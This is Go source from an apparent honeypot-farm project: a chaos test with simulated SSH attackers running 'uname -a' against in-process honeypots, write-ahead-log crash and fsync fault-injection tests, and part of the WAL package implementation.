	drain := 2 * time.Second
	f, err := New(Config{
		Seed:      7,
		NumPots:   8,
		NumASes:   6,
		Countries: []string{"US", "SG", "DE", "JP", "BR", "ZA"},
		Registry:  reg,
		Faults:    plan,
		DayLength: 25 * time.Millisecond,
		// Short pot timeouts so stalled sessions die on their own.
		PreAuthTimeout:  150 * time.Millisecond,
		PostAuthTimeout: 300 * time.Millisecond,
		DrainTimeout:    drain,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Start(); err != nil {
		t.Fatal(err)
	}

	const attackers = 60
	var wg sync.WaitGroup
	var okSessions, failedDials, failedSessions int
	var cmu sync.Mutex
	for i := 0; i < attackers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			pot := i % 8
			nc, err := f.Fabric().Dial("198.51.100.1", f.SSHAddr(pot))
			if err != nil {
				if !errors.Is(err, netsim.ErrConnectionRefused) {
					t.Errorf("attacker %d: unexpected dial error %v", i, err)
				}
				cmu.Lock()
				failedDials++
				cmu.Unlock()
				return
			}
			defer nc.Close()
			// A stalled connection must not hang the attacker either.
			_ = nc.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: "root", Password: "x"})
			if err != nil {
				cmu.Lock()
				failedSessions++
				cmu.Unlock()
				return
			}
			if sess, err := cc.OpenSession(); err == nil {
				if err := sshwire.RequestExec(sess, "uname -a"); err == nil {
					_, _ = io.ReadAll(sess)
				}
			}
			cc.Close()
			cmu.Lock()
			okSessions++
			cmu.Unlock()
		}(i)
	}
	wg.Wait()

	// Let the outage windows run their course before shutdown.
	waitFor(t, 5*time.Second, func() bool { return f.Stats().Kills >= 3 },
		"outage windows to fire")

	start := time.Now()
	f.Stop()
	if elapsed := time.Since(start); elapsed > drain+2*time.Second {
		t.Errorf("Stop took %v, want within drain deadline %v (+margin)", elapsed, drain)
	}

	st := f.Stats()
	if st.ConnFaults == 0 {
		t.Error("no connection faults injected at 22% configured rate")
	}
	if st.Kills < 3 {
		t.Errorf("kills = %d, want ≥3 (planned outages)", st.Kills)
	}
	if okSessions == 0 {
		t.Error("no attacker session ever succeeded under 22% faults")
	}
	if f.Collector().Len() == 0 {
		t.Error("collector empty: healthy sessions were lost")
	}
	t.Logf("chaos: ok=%d refusedDials=%d failedSessions=%d stats=%+v collected=%d",
		okSessions, failedDials, failedSessions, st, f.Collector().Len())

	waitGoroutines(t, baseline)
}
