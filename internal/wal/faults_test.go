package wal

// ALICE-style durability property tests: the workload below runs
// through an iofault injector, and the assertions hold at every
// syscall-boundary crash point and under every seeded fsync-failure
// schedule — frames written before the cut survive, partial state is
// never admitted, and recovery is byte-identical for identical seeds.

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/iofault"
)

// tinyBackoff keeps retry sleeps out of the test wall clock.
var tinyBackoff = &faults.Plan{BackoffBaseMS: 1, BackoffCapMS: 1}

// dirState reads every file in dir into a name→content map, for
// byte-identical comparisons between same-seed runs.
func dirState(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	state := map[string][]byte{}
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		state[e.Name()] = data
	}
	return state
}

func sameDirState(t *testing.T, got, want map[string][]byte, label string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d files vs %d", label, len(got), len(want))
	}
	for name, data := range want {
		if !bytes.Equal(got[name], data) {
			t.Fatalf("%s: file %s differs between identically seeded runs", label, name)
		}
	}
}

// TestCrashAtEverySyscall generalizes TestCrashAtEveryOffset from byte
// truncation to full syscall schedules: the workload (appends, a
// rotation, meta frames, an atomic manifest write, a Sync barrier) is
// cut after its Kth mutating filesystem op for every K, and recovery
// must always succeed, admit exactly an append-order prefix, keep the
// Sync barrier's batches once the barrier op has executed, leave the
// manifest whole-file atomic, and sweep stranded *.tmp files. It runs
// per codec, like the byte-level test.
func TestCrashAtEverySyscall(t *testing.T) {
	for _, format := range []string{FormatName, FormatNameV2} {
		t.Run(format, func(t *testing.T) { testCrashAtEverySyscall(t, format) })
	}
}

func testCrashAtEverySyscall(t *testing.T, format string) {
	// Fault-free reference run: learn the schedule length, the barrier
	// position, and the full outcome.
	ref, err := iofault.New(iofault.OS, iofault.Plan{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	refDir := t.TempDir()
	run := func(fsys iofault.FS, dir string, opsNow func() int64) ([]Batch, int, int64) {
		t.Helper()
		l, _, oerr := Open(dir, Options{
			Epoch: testEpoch, SegmentBytes: 512, SyncEvery: 1 << 20, FS: fsys,
			Format: format, RetryPlan: tinyBackoff,
		})
		if oerr != nil {
			t.Fatalf("open: %v", oerr)
		}
		var appended []Batch
		barrierBatches, barrierOps := 0, int64(0)
		manifest := filepath.Join(dir, "manifest.json")
		for i := 0; i < 8; i++ {
			recs := mkRecords(uint64(i*10+1), 2)
			if err := l.AppendTagged(uint64(i), recs); err != nil {
				t.Fatalf("append %d: %v", i, err)
			}
			appended = append(appended, Batch{Tag: uint64(i), Records: recs})
			switch i {
			case 2:
				if err := atomicio.WriteFileBytesFS(fsys, manifest, []byte(`{"v":1}`)); err != nil {
					t.Fatalf("manifest v1: %v", err)
				}
			case 4:
				if err := l.Sync(); err != nil {
					t.Fatalf("sync barrier: %v", err)
				}
				barrierBatches = len(appended)
				if opsNow != nil {
					barrierOps = opsNow()
				}
			case 6:
				if err := atomicio.WriteFileBytesFS(fsys, manifest, []byte(`{"v":2}`)); err != nil {
					t.Fatalf("manifest v2: %v", err)
				}
			}
		}
		if err := l.Close(); err != nil {
			t.Fatalf("close: %v", err)
		}
		return appended, barrierBatches, barrierOps
	}

	appended, barrierBatches, barrierOps := run(ref, refDir, ref.Ops)
	total := ref.Ops()
	if total < 20 {
		t.Fatalf("workload observed only %d mutating ops; the schedule should cover rotation and manifest writes", total)
	}

	prevRecovered := 0
	for k := int64(1); k <= total; k++ {
		dir := t.TempDir()
		inj, err := iofault.New(iofault.OS, iofault.Plan{Seed: 1, CrashAfterOps: k})
		if err != nil {
			t.Fatal(err)
		}
		run(inj, dir, nil)

		// Same seed, same K → byte-identical pre-recovery disk state.
		// Sampled: the crash run itself is single-goroutine determinism,
		// verified in full by the iofault package tests.
		if k%5 == 0 {
			dir2 := t.TempDir()
			inj2, err := iofault.New(iofault.OS, iofault.Plan{Seed: 1, CrashAfterOps: k})
			if err != nil {
				t.Fatal(err)
			}
			run(inj2, dir2, nil)
			sameDirState(t, dirState(t, dir2), dirState(t, dir), fmt.Sprintf("K=%d", k))
		}

		hadTmp := len(globNames(t, dir, "*.tmp")) > 0

		l, rec, err := Open(dir, Options{Epoch: testEpoch})
		if err != nil {
			t.Fatalf("K=%d: recovery open failed: %v", k, err)
		}
		if err := l.Close(); err != nil {
			t.Fatalf("K=%d: recovered log close: %v", k, err)
		}
		m := len(rec.Batches)
		if m > len(appended) {
			t.Fatalf("K=%d: recovered %d batches, more than the %d appended", k, m, len(appended))
		}
		sameBatches(t, rec.Batches, appended[:m])
		if m < prevRecovered {
			t.Fatalf("K=%d: recovered %d batches, fewer than %d at K-1 — executing one more op lost data", k, m, prevRecovered)
		}
		prevRecovered = m
		if k >= barrierOps && m < barrierBatches {
			t.Fatalf("K=%d: only %d batches survive but the Sync barrier (op %d) covered %d", k, m, barrierOps, barrierBatches)
		}
		if len(rec.Gaps) != 0 {
			t.Fatalf("K=%d: crash recovery reports %d gap frames; none were written", k, len(rec.Gaps))
		}
		if hadTmp && len(rec.OrphanedTmp) == 0 {
			t.Fatalf("K=%d: a stranded *.tmp existed but recovery reported none", k)
		}
		if names := globNames(t, dir, "*.tmp"); len(names) != 0 {
			t.Fatalf("K=%d: %v survived recovery; Open must sweep stale tmp files", k, names)
		}

		// The manifest is whole-file atomic: old version, new version, or
		// absent — never a torn mixture.
		switch data, err := os.ReadFile(filepath.Join(dir, "manifest.json")); {
		case errors.Is(err, os.ErrNotExist):
		case err != nil:
			t.Fatalf("K=%d: manifest read: %v", k, err)
		case string(data) != `{"v":1}` && string(data) != `{"v":2}`:
			t.Fatalf("K=%d: manifest holds %q — a partial write escaped the atomic protocol", k, data)
		}
	}
	if prevRecovered != len(appended) {
		t.Fatalf("crash at K=total recovered %d batches, want all %d", prevRecovered, len(appended))
	}
}

func globNames(t *testing.T, dir, pattern string) []string {
	t.Helper()
	matches, err := filepath.Glob(filepath.Join(dir, pattern))
	if err != nil {
		t.Fatal(err)
	}
	return matches
}

// TestFsyncFaultSchedule runs a seeded fsync-failure schedule over an
// append+Sync workload: acknowledged batches must all be recovered, the
// recovered sequence must be exactly the acknowledged subsequence,
// every unacknowledged batch must be accounted for in Health, and two
// identically seeded runs must leave byte-identical segments.
func TestFsyncFaultSchedule(t *testing.T) {
	const batches = 25
	for _, seed := range []int64{3, 17, 99} {
		seed := seed
		t.Run(fmt.Sprintf("seed=%d", seed), func(t *testing.T) {
			type outcome struct {
				written []bool
				health  Health
				state   map[string][]byte
			}
			run := func() outcome {
				dir := t.TempDir()
				inj, err := iofault.New(iofault.OS, iofault.Plan{Seed: seed, SyncErrRate: 0.35})
				if err != nil {
					t.Fatal(err)
				}
				l, _, err := Open(dir, Options{
					Epoch: testEpoch, SyncEvery: 1 << 20, FS: inj,
					RetryAttempts: 1, RetryPlan: tinyBackoff, ProbeEvery: 2,
				})
				if err != nil {
					t.Fatalf("open: %v", err)
				}
				o := outcome{written: make([]bool, batches)}
				for i := 0; i < batches; i++ {
					err := l.AppendTagged(uint64(i), mkRecords(uint64(i*10+1), 1))
					if err != nil && !errors.Is(err, ErrDegraded) {
						t.Fatalf("append %d: unexpected error class: %v", i, err)
					}
					o.written[i] = err == nil
					if err == nil {
						// The explicit sync may fail by schedule; the frame is
						// already on disk either way.
						if serr := l.Sync(); serr != nil && !errors.Is(serr, ErrDegraded) {
							t.Fatalf("sync %d: unexpected error class: %v", i, serr)
						}
					}
				}
				o.health = l.Health()
				if err := l.Close(); err != nil && !errors.Is(err, ErrDegraded) {
					t.Fatalf("close: unexpected error class: %v", err)
				}
				o.state = dirState(t, dir)

				// Recovery with a clean filesystem: the acknowledged batches,
				// exactly, in order.
				_, rec, err := Open(dir, Options{Epoch: testEpoch})
				if err != nil {
					t.Fatalf("recovery open: %v", err)
				}
				var want []Batch
				for i := 0; i < batches; i++ {
					if o.written[i] {
						want = append(want, Batch{Tag: uint64(i), Records: mkRecords(uint64(i*10+1), 1)})
					}
				}
				sameBatches(t, rec.Batches, want)
				if got := len(rec.Batches) + o.health.DroppedRecords; got != batches {
					t.Fatalf("recovered %d + dropped %d = %d records, want %d accounted for",
						len(rec.Batches), o.health.DroppedRecords, got, batches)
				}
				if rec.DroppedRecords() > o.health.DroppedRecords {
					t.Fatalf("gap frames record %d drops, more than Health's %d",
						rec.DroppedRecords(), o.health.DroppedRecords)
				}
				if o.health.Outages == 0 {
					t.Fatalf("35%% sync failure over %d syncs never degraded the log", batches)
				}
				return o
			}

			a, b := run(), run()
			for i := range a.written {
				if a.written[i] != b.written[i] {
					t.Fatalf("batch %d ack diverged between identically seeded runs", i)
				}
			}
			// Reason carries the (path-bearing) cause; the counters and
			// segment bytes are the determinism contract.
			a.health.Reason, b.health.Reason = "", ""
			if a.health != b.health {
				t.Fatalf("health diverged between identically seeded runs:\n  %+v\n  %+v", a.health, b.health)
			}
			sameDirState(t, b.state, a.state, "fsync schedule")
		})
	}
}

// hookFS wraps an iofault.FS with a settable fsync hook, for driving
// the pipelined committer's error paths from a test.
type hookFS struct {
	inner iofault.FS

	mu   sync.Mutex
	sync func() error
}

func (h *hookFS) setSync(fn func() error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.sync = fn
}

func (h *hookFS) syncHook() func() error {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.sync
}

func (h *hookFS) OpenFile(name string, flag int, perm os.FileMode) (iofault.File, error) {
	f, err := h.inner.OpenFile(name, flag, perm)
	if err != nil {
		return nil, err
	}
	return &hookFile{File: f, fs: h}, nil
}

func (h *hookFS) Rename(oldpath, newpath string) error       { return h.inner.Rename(oldpath, newpath) }
func (h *hookFS) Remove(name string) error                   { return h.inner.Remove(name) }
func (h *hookFS) ReadDir(name string) ([]os.DirEntry, error) { return h.inner.ReadDir(name) }
func (h *hookFS) Stat(name string) (os.FileInfo, error)      { return h.inner.Stat(name) }
func (h *hookFS) MkdirAll(name string, perm os.FileMode) error {
	return h.inner.MkdirAll(name, perm)
}

type hookFile struct {
	iofault.File
	fs *hookFS
}

func (f *hookFile) Sync() error {
	if hook := f.fs.syncHook(); hook != nil {
		if err := hook(); err != nil {
			return err
		}
	}
	return f.File.Sync()
}

// TestCommitterFsyncErrorSticky drives a pipelined group-commit fsync
// failure: the error surfaces on the next Append (not silently
// swallowed on the committer goroutine), sticks across Sync and Close,
// and clears only through a successful recovery probe.
func TestCommitterFsyncErrorSticky(t *testing.T) {
	dir := t.TempDir()
	fs := &hookFS{inner: iofault.OS}
	l, _, err := Open(dir, Options{Epoch: testEpoch, SyncEvery: 2, FS: fs, ProbeEvery: 2})
	if err != nil {
		t.Fatal(err)
	}
	fs.setSync(func() error { return syscall.EIO })

	// Batch A crosses SyncEvery and hands its fsync to the committer,
	// which fails asynchronously; A's append already returned nil.
	if err := l.AppendTagged(1, mkRecords(1, 2)); err != nil {
		t.Fatalf("append A: %v", err)
	}
	// Batch B is written, then collects A's failed fsync: the append
	// surfaces the degradation.
	err = l.AppendTagged(2, mkRecords(11, 2))
	if !errors.Is(err, ErrDegraded) {
		t.Fatalf("append after failed group commit = %v, want ErrDegraded", err)
	}
	if err := l.Sync(); !errors.Is(err, ErrDegraded) {
		t.Fatalf("Sync on degraded log = %v, want ErrDegraded", err)
	}
	// The recovery probe re-seals through a fresh handle whose fsync
	// still fails, so the log stays degraded and the batch drops.
	if err := l.AppendTagged(3, mkRecords(21, 2)); !errors.Is(err, ErrDegraded) {
		t.Fatalf("append C = %v, want ErrDegraded", err)
	}
	h := l.Health()
	if !h.Degraded || h.Outages != 1 || h.DroppedBatches != 1 || h.DroppedRecords != 2 {
		t.Fatalf("health after sticky sync failure: %+v", h)
	}

	// Heal the disk: within ProbeEvery dropped appends a probe rolls a
	// fresh segment and appends resume, with the outage on record.
	fs.setSync(nil)
	var recovered bool
	for i := 0; i < 3 && !recovered; i++ {
		recovered = l.AppendTagged(4, mkRecords(31, 2)) == nil
	}
	if !recovered {
		t.Fatal("log never recovered after the fsync fault cleared")
	}
	h = l.Health()
	if h.Degraded || h.Recoveries != 1 {
		t.Fatalf("health after recovery: %+v", h)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close after recovery: %v", err)
	}

	_, rec, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Gaps) != 1 || !strings.HasPrefix(rec.Gaps[0].Reason, "group commit fsync:") {
		t.Fatalf("recovered gaps = %+v, want one group-commit-fsync outage", rec.Gaps)
	}
	// A and B were written before the outage (B's durability was pending,
	// but the bytes were on disk and the seal kept them); batch 4 landed
	// after recovery.
	tags := make([]uint64, len(rec.Batches))
	for i, b := range rec.Batches {
		tags[i] = b.Tag
	}
	if len(tags) < 3 || tags[0] != 1 || tags[1] != 2 || tags[len(tags)-1] != 4 {
		t.Fatalf("recovered tags %v, want [1 2 ... 4]", tags)
	}
}

// TestCloseDrainsInflightSync pins the committer-handoff contract:
// Close must wait out an in-flight asynchronous fsync before touching
// the file, and complete cleanly once it lands.
func TestCloseDrainsInflightSync(t *testing.T) {
	dir := t.TempDir()
	fs := &hookFS{inner: iofault.OS}
	l, _, err := Open(dir, Options{Epoch: testEpoch, SyncEvery: 1, FS: fs})
	if err != nil {
		t.Fatal(err)
	}
	gate := make(chan struct{})
	entered := make(chan struct{}, 4)
	fs.setSync(func() error {
		entered <- struct{}{}
		<-gate
		return nil
	})
	if err := l.AppendTagged(7, mkRecords(1, 1)); err != nil {
		t.Fatalf("append: %v", err)
	}
	<-entered // the committer is inside its fsync

	closeDone := make(chan error, 1)
	go func() { closeDone <- l.Close() }()
	select {
	case err := <-closeDone:
		t.Fatalf("Close returned %v with the group-commit fsync still in flight", err)
	case <-time.After(30 * time.Millisecond):
	}
	fs.setSync(nil) // the final Close fsync must not block on the gate
	close(gate)
	if err := <-closeDone; err != nil {
		t.Fatalf("Close after drain: %v", err)
	}

	_, rec, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Batches) != 1 || rec.Batches[0].Tag != 7 {
		t.Fatalf("recovered %d batches, want the drained append", len(rec.Batches))
	}
}

// TestENOSPCWindowRecovers opens a Break/Heal out-of-space window
// around a run of appends: inside the window every append is counted
// and dropped with ErrDegraded; after Heal the probe schedule rolls a
// fresh segment (with a gap frame carrying the outage accounting) and
// appends resume without reopening the log.
func TestENOSPCWindowRecovers(t *testing.T) {
	dir := t.TempDir()
	inj, err := iofault.New(iofault.OS, iofault.Plan{Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	l, _, err := Open(dir, Options{
		Epoch: testEpoch, SyncEvery: 1 << 20, FS: inj,
		RetryAttempts: 2, RetryPlan: tinyBackoff, ProbeEvery: 4,
	})
	if err != nil {
		t.Fatal(err)
	}
	tag := uint64(0)
	append1 := func() error {
		tag++
		return l.AppendTagged(tag, mkRecords(tag*10, 1))
	}
	var acked []uint64
	for i := 0; i < 3; i++ {
		if err := append1(); err != nil {
			t.Fatalf("pre-outage append: %v", err)
		}
		acked = append(acked, tag)
	}

	inj.Break(syscall.ENOSPC)
	for i := 0; i < 5; i++ {
		err := append1()
		if !errors.Is(err, ErrDegraded) || !errors.Is(err, syscall.ENOSPC) {
			t.Fatalf("append during outage = %v, want ErrDegraded wrapping ENOSPC", err)
		}
	}
	h := l.Health()
	if !h.Degraded || h.DroppedBatches != 5 || h.DroppedRecords != 5 || h.Outages != 1 {
		t.Fatalf("health during outage: %+v", h)
	}

	inj.Heal()
	// The next probe slot lands within ProbeEvery appends of the heal.
	recoveredAt := -1
	for i := 0; i < 4; i++ {
		if err := append1(); err == nil {
			acked = append(acked, tag)
			recoveredAt = i
			break
		}
	}
	if recoveredAt < 0 {
		t.Fatal("log never recovered within ProbeEvery appends of Heal")
	}
	if err := append1(); err != nil {
		t.Fatalf("append after recovery: %v", err)
	}
	acked = append(acked, tag)
	h = l.Health()
	if h.Degraded || h.Recoveries != 1 {
		t.Fatalf("health after recovery: %+v", h)
	}
	if err := l.Close(); err != nil {
		t.Fatalf("close: %v", err)
	}

	// Recovery: the acked batches exactly, one gap frame carrying the
	// full outage accounting, contiguous healthy segments.
	_, rec, err := Open(dir, Options{Epoch: testEpoch})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Batches) != len(acked) {
		t.Fatalf("recovered %d batches, want the %d acked", len(rec.Batches), len(acked))
	}
	for i, b := range rec.Batches {
		if b.Tag != acked[i] {
			t.Fatalf("recovered tag %d at %d, want %d", b.Tag, i, acked[i])
		}
	}
	wantDropped := int(acked[len(acked)-1]) - len(acked)
	if len(rec.Gaps) != 1 || rec.Gaps[0].Reason != "append: enospc" ||
		rec.Gaps[0].Batches != wantDropped || rec.Gaps[0].Records != wantDropped {
		t.Fatalf("recovered gaps %+v, want one append:enospc outage dropping %d", rec.Gaps, wantDropped)
	}
	for i, seg := range rec.Segments {
		if seg.Seq != uint64(i+1) {
			t.Fatalf("segment %d has sequence %d; degraded recovery broke contiguity", i, seg.Seq)
		}
		if seg.Torn {
			t.Fatalf("segment %s torn after clean close", seg.Name)
		}
	}
	v, err := Verify(dir, testEpoch)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Healthy() {
		t.Fatal("post-outage WAL fails Verify")
	}

	// The iterator surfaces the same gap to a tailing follower.
	it, err := NewIterator(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer it.Close()
	n := 0
	for {
		_, ok, err := it.Next()
		if err != nil {
			t.Fatalf("iterator: %v", err)
		}
		if !ok {
			break
		}
		n++
	}
	if n != len(acked) {
		t.Fatalf("iterator yielded %d batches, want %d", n, len(acked))
	}
	if gaps := it.Gaps(); len(gaps) != 1 || gaps[0].Records != wantDropped {
		t.Fatalf("iterator gaps %+v, want the outage record", gaps)
	}
}
