package wal

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"honeyfarm/internal/atomicio"
	"honeyfarm/internal/iofault"
)

// Verify scans a WAL directory read-only and reports per-segment frame
// and checksum statistics without modifying anything — orphaned *.tmp
// files are listed in the recovery, not swept. Unlike Open it tolerates
// damage anywhere: a torn or corrupt segment simply shows the intact
// prefix it still holds. epoch may be zero when the directory has at
// least one intact meta frame.
func Verify(dir string, epoch time.Time) (*Recovery, error) {
	return VerifyFS(iofault.OS, dir, epoch)
}

// VerifyFS is Verify reading through fsys.
func VerifyFS(fsys iofault.FS, dir string, epoch time.Time) (*Recovery, error) {
	return scan(fsys, dir, epoch, false)
}

// Healthy reports whether the recovery describes a WAL that Open would
// accept unchanged: no torn bytes anywhere. Orphaned tmp files do not
// count against health — Open sweeps them as a matter of course.
func (r *Recovery) Healthy() bool { return r.TornBytes == 0 }

// Repair truncates every damaged segment to its intact-frame prefix,
// fsyncing each repaired file, sweeps orphaned *.tmp files, and returns
// the post-repair state. This is the fsck salvage path for damage Open
// refuses (a corrupt frame in a non-final segment); data after a
// damaged frame is unrecoverable because frames are located
// sequentially.
func Repair(dir string, epoch time.Time) (*Recovery, error) {
	return RepairFS(iofault.OS, dir, epoch)
}

// RepairFS is Repair operating through fsys.
func RepairFS(fsys iofault.FS, dir string, epoch time.Time) (*Recovery, error) {
	rec, err := scan(fsys, dir, epoch, false)
	if err != nil {
		return nil, err
	}
	for i := range rec.Segments {
		seg := &rec.Segments[i]
		if !seg.Torn {
			continue
		}
		f, err := fsys.OpenFile(filepath.Join(dir, seg.Name), os.O_RDWR, 0o644)
		if err != nil {
			return nil, fmt.Errorf("wal: opening %s for repair: %w", seg.Name, err)
		}
		if err := f.Truncate(seg.GoodBytes); err != nil {
			f.Close()
			return nil, fmt.Errorf("wal: truncating %s: %w", seg.Name, err)
		}
		if err := f.Sync(); err != nil {
			f.Close()
			return nil, fmt.Errorf("wal: syncing %s: %w", seg.Name, err)
		}
		if err := f.Close(); err != nil {
			return nil, fmt.Errorf("wal: closing %s: %w", seg.Name, err)
		}
	}
	if _, err := atomicio.SweepTmp(fsys, dir); err != nil {
		return nil, fmt.Errorf("wal: sweeping orphaned tmp files: %w", err)
	}
	return scan(fsys, dir, epoch, false)
}
