// Package wal implements the collector's segmented, append-only
// write-ahead log. The paper's honeyfarm survived 15 months of
// continuous ingest; this package is the durability layer that lets our
// collector do the same: session-record batches are framed, checksummed
// and appended to segment files, fsynced in deterministic record-count
// groups, and recovered after a crash by scanning the segments,
// truncating the torn tail frame, and replaying every intact frame.
//
// On-disk layout: a WAL directory holds segment files named
// wal-<seq>.seg. Each segment starts with a meta frame carrying the
// format name, the segment sequence number and the store epoch; batch
// frames follow. A frame is
//
//	uint32 LE  payload length n
//	uint32 LE  CRC-32C (Castagnoli) of the payload
//	n bytes    payload: 1 kind byte + body
//
// The meta frame's body is always JSON, and its Format field declares
// how the segment's batch bodies are encoded: "honeyfarm-wal-v1" is
// JSON, "honeyfarm-wal-v2" is the binary record codec (codec.go). A
// directory may mix segment formats — an upgraded collector resumes a
// v1 tail in v1 and switches to v2 at the next rotation — and every
// reader (Open, Verify, Repair, Iterator, fsck) dispatches per segment.
//
// Appends go to the highest segment; when it exceeds the configured
// byte threshold it is fsynced, closed, and a new segment is opened.
// Because a segment is only ever succeeded after a full sync, a crash
// can tear at most the tail of the final segment — the recovery
// invariant the torn-tail rule and the crash-at-every-offset property
// test depend on.
//
// Group commits are pipelined: a single committer goroutine owns the
// asynchronous fsyncs, so the fsync of group N overlaps the encode and
// write of group N+1. The schedule stays strictly count-based
// (SyncEvery records per group, never a timer), so the flush points are
// a deterministic function of the append stream.
package wal

import (
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/store"
	"honeyfarm/internal/wire"
)

// Format names recorded in segment meta frames. The name selects the
// batch-body codec for every frame in that segment.
const (
	// FormatName is the v1 format: JSON batch bodies.
	FormatName = "honeyfarm-wal-v1"
	// FormatNameV2 is the v2 format: binary batch bodies in SSH wire
	// style (internal/wire). The default for newly created segments.
	FormatNameV2 = "honeyfarm-wal-v2"
)

// Frame kinds (first payload byte).
const (
	kindMeta  = 1 // segment header: format, sequence, epoch
	kindBatch = 2 // session-record batch
)

// frameHeaderSize is the fixed prefix of every frame: length + CRC.
const frameHeaderSize = 8

// castagnoli is the CRC-32C table used by every frame checksum.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// Options tunes a log. The zero value selects the defaults.
type Options struct {
	// Epoch is the store epoch recorded in segment meta frames and used
	// to replay recovered records. Required when the directory has no
	// recoverable meta frame; must match the recorded epoch otherwise
	// (zero means "use whatever is recorded").
	Epoch time.Time
	// SegmentBytes rotates to a new segment once the current one reaches
	// this size (default 8 MiB).
	SegmentBytes int64
	// SyncEvery is the group-commit policy: fsync after this many
	// appended records (default 512). It is a record count, not a timer,
	// so the flush schedule is a deterministic function of the append
	// stream. 1 syncs every append.
	SyncEvery int
	// Format selects the codec for newly created segments: FormatNameV2
	// (the default) or FormatName for the JSON codec. A resumed segment
	// always keeps its recorded format until rotation, whatever this
	// says, so frames within one segment are homogeneous.
	Format string
}

func (o Options) withDefaults() (Options, error) {
	if o.SegmentBytes <= 0 {
		o.SegmentBytes = 8 << 20
	}
	if o.SyncEvery <= 0 {
		o.SyncEvery = 512
	}
	if o.Format == "" {
		o.Format = FormatNameV2
	}
	if o.Format != FormatName && o.Format != FormatNameV2 {
		return o, fmt.Errorf("wal: unknown format %q", o.Format)
	}
	return o, nil
}

// Batch is one recovered record batch. Tag carries the caller's label
// (the generation checkpoint stores shard indexes there; plain durable
// sinks use 0).
type Batch struct {
	Tag     uint64
	Records []*honeypot.SessionRecord
}

// batchBody is the JSON body of a v1 batch frame.
type batchBody struct {
	Tag     uint64                    `json:"tag"`
	Records []*honeypot.SessionRecord `json:"records"`
}

// metaBody is the JSON body of a segment meta frame (JSON in every
// format — it is what declares the format).
type metaBody struct {
	Format  string    `json:"format"`
	Segment uint64    `json:"segment"`
	Epoch   time.Time `json:"epoch"`
}

// SegmentStat is one segment's recovery/verification summary.
type SegmentStat struct {
	// Name is the segment file name within the WAL directory.
	Name string
	// Seq is the segment sequence number parsed from the name.
	Seq uint64
	// Format is the codec the segment's meta frame declares (empty when
	// the meta frame itself was torn).
	Format string
	// Frames and Records count the intact batch frames and the records
	// they carry (the meta frame is not counted).
	Frames  int
	Records int
	// Bytes is the file size; GoodBytes the prefix covered by intact
	// frames (including the meta frame); TornBytes the difference.
	Bytes     int64
	GoodBytes int64
	TornBytes int64
	// Torn reports a torn or corrupt tail. On the final segment this is
	// the expected crash artifact; on any earlier segment it is
	// corruption (Open refuses it, fsck -repair truncates it).
	Torn bool
}

// Recovery reports what Open (or Verify) found in a WAL directory.
type Recovery struct {
	// Epoch is the store epoch recorded in the segments (or the Options
	// epoch for a fresh directory).
	Epoch time.Time
	// Batches are the intact batch frames in append order.
	Batches []Batch
	// Segments holds per-segment frame/checksum stats in sequence order.
	Segments []SegmentStat
	// TornBytes is the total tail bytes truncated during recovery.
	TornBytes int64
}

// Records counts the recovered records across all batches.
func (r *Recovery) Records() int {
	n := 0
	for _, b := range r.Batches {
		n += len(b.Records)
	}
	return n
}

// Replay builds a store from the recovered batches.
func (r *Recovery) Replay() *store.Store {
	s := store.New(r.Epoch)
	for _, b := range r.Batches {
		s.AddBatch(b.Records)
	}
	return s
}

// Log is an open write-ahead log. All methods are safe for concurrent
// use; concurrent Appends serialize, so the frame order is the
// serialization order.
//
// Appends are acknowledged once written; durability arrives with the
// group commit, whose fsync runs on the committer goroutine. An
// asynchronous fsync failure is held sticky and returned by every
// subsequent Append/Sync/Close, so a caller that stops appending on
// the first error (store.Store's DurableErr contract) never outruns an
// unreported sync failure by more than one group.
type Log struct {
	dir  string
	opts Options

	mu      sync.Mutex
	f       *os.File // current segment
	seq     uint64   // current segment sequence number
	size    int64    // current segment size
	format  string   // current segment's batch codec
	pending int      // records appended since the last sync request
	closed  bool

	// Pipelined group commit: the committer goroutine performs the
	// fsyncs requested through syncReq and acknowledges on syncDone, so
	// an appender that just crossed SyncEvery hands off the sync and
	// returns to encoding. Pipeline depth is one: a second request
	// first waits out the in-flight predecessor.
	syncReq       chan *os.File
	syncDone      chan error
	committerDone chan struct{}
	syncInFlight  bool
	syncErr       error
}

// segmentName formats the file name of segment seq.
func segmentName(seq uint64) string { return fmt.Sprintf("wal-%08d.seg", seq) }

// parseSegmentName extracts the sequence number from a segment name.
func parseSegmentName(name string) (uint64, bool) {
	if !strings.HasPrefix(name, "wal-") || !strings.HasSuffix(name, ".seg") {
		return 0, false
	}
	var seq uint64
	_, err := fmt.Sscanf(name, "wal-%d.seg", &seq)
	return seq, err == nil
}

// listSegments returns the directory's segment files in sequence order.
func listSegments(dir string) ([]SegmentStat, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var segs []SegmentStat
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
